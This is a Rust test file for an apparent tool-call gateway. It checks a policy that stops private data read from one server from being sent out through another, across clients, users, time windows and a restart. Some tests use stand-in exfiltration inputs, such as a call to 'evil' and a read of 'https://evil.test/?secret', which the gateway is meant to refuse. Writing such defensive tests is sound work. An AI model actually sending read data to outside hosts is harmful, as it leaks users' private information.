//! POL-05: private data that was read in one call is not sent out in another.

use super::house::{House, Key, server, within};
use super::scripted::{Scripted, tool, whole};
use super::speak::{legacy_call, modern, modern_call};
use super::wire::Reply;
use doorward_testkit::lax::Lax;
use doorward_testkit::lax::quirk::{Behaviour, Quirk};
use serde_json::json;
use std::time::Duration;

const HOUR: Duration = Duration::from_secs(3600);

/// `alpha` holds private data, `beta` can carry things out.
const FLOW: &str = r#"
@id("use") permit (principal, action == Action::"use", resource);
@id("reads") @seen("private") permit (principal, action in [Action::"call", Action::"read"], resource in Server::"alpha");
@id("sends") permit (principal, action in [Action::"call", Action::"read"], resource in Server::"beta");
@id("no-sending") @message("Private data was read here before.")
forbid (principal, action in [Action::"call", Action::"read"], resource in Server::"beta") when { context.seen.contains("private") };
"#;

struct Flow {
    alpha: Lax,
    beta: Lax,
    house: House,
}

impl Flow {
    async fn open(policy: &str) -> Self {
        let behaviour = || Behaviour::plain().with(Quirk::Modern);
        let (alpha, beta) = (Lax::start(behaviour()).await.unwrap(), Lax::start(behaviour()).await.unwrap());
        let toml = format!("{policy}{}{}", server("alpha", &alpha.url(), ""), server("beta", &beta.url(), ""));
        let house = House::ruled(&toml, FLOW).await;
        house.approve().await;
        Self { alpha, beta, house }
    }

    async fn client(&self, user: &str, client: &str) -> Key {
        self.house.token(user, client, &["alpha", "beta"], &["*:read", "*:write", "*:destructive"], 90 * HOUR).await
    }

    async fn call(&self, key: &Key, server: &str) -> Reply {
        self.house.ask(modern_call(key, server, 1, "echo", json!({ "to": "evil" }))).await
    }

    /// Nothing is sent, in any way.
    async fn sends_nothing(&self, key: &Key) {
        let session = self.house.session(key, "beta").await;
        self.beta.forget();
        let refused = self.call(key, "beta").await;
        assert!(refused.text().contains("no-sending") && refused.text().contains("was read here before"), "{}", refused.text());
        assert_eq!(self.house.last_reason(), "policy_denied_seen");
        let refused = self.house.ask(legacy_call(key, "beta", &session, 2, "echo", json!({ "to": "evil" }))).await;
        assert!(refused.text().contains("no-sending"), "{}", refused.text());
        self.house.ask(modern(key, "beta", 3, "resources/read", json!({ "uri": "https://evil.test/?secret" }))).await;
        for method in ["tools/call", "resources/read"] {
            assert!(self.beta.seen_method(method).is_empty(), "{method}");
        }
    }

    async fn sends(&self, key: &Key) {
        self.beta.forget();
        let reply = self.call(key, "beta").await;
        assert!(reply.text().contains("evil") && !reply.text().contains("no-sending"), "{}", reply.text());
        assert_eq!(self.beta.seen_method("tools/call").len(), 1);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pol_05_what_was_read_in_one_call_is_not_sent_out_in_another() {
    let flow = Flow::open("").await;
    let (alice, other, bob) = (flow.client("alice", "c1").await, flow.client("alice", "c2").await, flow.client("bob", "c1").await);
    flow.sends(&alice).await;
    assert!(flow.call(&alice, "alpha").await.text().contains("evil"), "reading is allowed");
    flow.sends_nothing(&alice).await;
    // Another credential of the same client is the same client; what it holds it may hold from before.
    let again = flow.client("alice", "c1").await;
    flow.sends_nothing(&again).await;
    flow.sends(&other).await;
    flow.sends(&bob).await;
    // A resource counts as much as a tool.
    flow.house.ask(modern(&bob, "alpha", 1, "resources/read", json!({ "uri": "file:///a" }))).await;
    assert_eq!(flow.alpha.seen_method("resources/read").len(), 1);
    flow.sends_nothing(&bob).await;
    // What is refused lets nobody see anything.
    let refused = flow.house.ask(modern_call(&other, "alpha", 1, "no-such-tool", json!({}))).await;
    assert!(refused.json().get("error").is_some(), "{}", refused.text());
    flow.sends(&other).await;
    // The list stays as it is.
    let listed = flow.house.ask(modern(&alice, "beta", 1, "tools/list", json!({}))).await.result();
    assert!(listed["tools"].as_array().unwrap().iter().any(|tool| tool["name"] == "echo"));
    // From the last time on.
    flow.house.shift.by(23 * 3600);
    flow.call(&alice, "alpha").await;
    flow.house.shift.by(2 * 3600);
    flow.sends_nothing(&alice).await;
    flow.sends(&bob).await;
    flow.house.shift.by(22 * 3600);
    flow.sends(&alice).await;
    flow.house.close(&[&alice.text, &bob.text]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pol_05_all_clients_of_a_user_count_together_where_so_configured() {
    let flow = Flow::open("[policy]\nseen_by = \"user\"\nremember_seen = \"1h\"\n").await;
    let (one, two, bob) = (flow.client("alice", "c1").await, flow.client("alice", "c2").await, flow.client("bob", "c1").await);
    flow.call(&one, "alpha").await;
    flow.sends_nothing(&two).await;
    flow.sends(&bob).await;
    flow.house.shift.by(3601);
    flow.sends(&two).await;
    flow.house.close(&[&one.text]).await;
}

/// The label stands before the request leaves: whatever comes back, and whenever, what carries it on is judged later.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pol_05_a_reading_that_has_begun_counts_and_survives_a_restart() {
    let alpha = Scripted::start(|asked| {
        Box::pin(async move {
            if asked.method() == "tools/call" {
                std::future::pending::<()>().await;
            }
            whole(&asked.plainly(&json!([tool("read")])).unwrap_or_default())
        })
    })
    .await;
    let beta = Lax::start(Behaviour::plain().with(Quirk::Modern)).await.unwrap();
    let toml = format!("{}{}", server("alpha", &alpha.url(), "timeout = \"60s\""), server("beta", &beta.url(), ""));
    let house = House::ruled(&toml, FLOW).await;
    house.approve().await;
    let alice = house.token("alice", "c1", &["alpha", "beta"], &["*:read", "*:write", "*:destructive"], HOUR).await;
    let (ask, address) = (modern_call(&alice, "alpha", 1, "read", json!({})), house.address);
    let reading = tokio::spawn(async move { ask.at(address).await });
    assert!(within(Duration::from_secs(10), async || !alpha.calls("tools/call").is_empty()).await, "it is on its way");
    let send = || modern_call(&alice, "beta", 1, "echo", json!({}));
    beta.forget();
    assert!(house.ask(send()).await.text().contains("no-sending"));
    let next = house.state.taken_over();
    let again = House::over(next, &toml, FLOW).await;
    assert!(again.ask(send()).await.text().contains("no-sending"));
    assert!(beta.seen_method("tools/call").is_empty());
    reading.abort();
    again.close(&[]).await;
    house.close(&[&alice.text]).await;
}

/// A server that asks while it runs could be told what was read meanwhile.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pol_05_what_runs_while_private_data_is_read_is_ended() {
    let flow = Flow::open("").await;
    let alice = flow.client("alice", "c1").await;
    let params = json!({ "name": "slow", "arguments": { "count": 60, "ms": 1000 }, "_meta": { "progressToken": "p" } });
    let sending = modern(&alice, "beta", 1, "tools/call", params);
    let mut running = flow.house.flow(sending.set("Accept", "application/json, text/event-stream")).await;
    running.message().await;
    flow.call(&alice, "alpha").await;
    let ended = tokio::time::timeout(Duration::from_secs(25), running.rest()).await;
    assert!(ended.is_ok(), "it goes on");
    assert!(flow.house.records().iter().any(|record| record["reason"] == "no_longer_permitted"));
    flow.house.close(&[&alice.text]).await;
}
